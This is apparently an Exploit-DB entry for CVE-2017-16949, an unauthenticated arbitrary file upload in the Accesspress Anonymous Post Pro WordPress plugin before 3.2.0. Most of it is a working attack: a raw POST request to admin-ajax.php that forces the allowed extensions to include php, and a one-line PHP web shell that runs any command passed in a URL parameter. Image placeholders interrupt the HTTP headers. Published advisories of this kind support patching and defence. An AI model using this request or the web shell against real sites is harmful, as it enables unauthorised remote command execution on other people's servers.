Accesspress Anonymous Post Pro < 3.2.0 - Unauthenticated Arbitrary File Upload

EDB-ID: 43324
Author: Colette Chamberland
Published: 2017-12-12
CVE: CVE-2017-16949
Type: Webapps
Platform: PHP
Vulnerable App: N/A

 # Date: November 12, 2017
# Exploit Author: Colette Chamberland
# Author contact: [email protected]
# Author homepage:
# Vendor Homepage:
# Software Link:
# Version: < 3.2.0
# Tested on: Wordpress 4.x
# CVE : CVE-2017-16949

Improper sanitization allows the attacker to override the settings for allowed file extensions and upload file size. This allows
the attacker to upload anything they want, bypassing the filters.


POST /wp-admin/admin-ajax.php?action=ap_file_upload_action&file_uploader_nonce=[nonce]&allowedExtensions[]=php&sizeLimit=64000 HTTP/1.1
User-Agent: Mozilla/5.0 (Macintosh; Intel Mac OS X 10.12; rv:55.0) Gecko/20100101 Firefox/55.0
Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8
Accept-Language: en-US,en;q=0.5
Accept-Encoding: gzip, deflate
Content-Type: multipart/form-data; boundary=---7230359611602921801124357792Content-Length: 264
Cookie:PHPSESSID=22cj9s25f72jr376ln2a3oj6h6;
Connection: close
Upgrade-Insecure-Requests: 1

Content-Disposition: form-data; name="qqfile"; filename="myshell.php"
Content-Type:text/php

<?php echo shell_exec($_GET['e'].' 2>&1'); ?>


Related Posts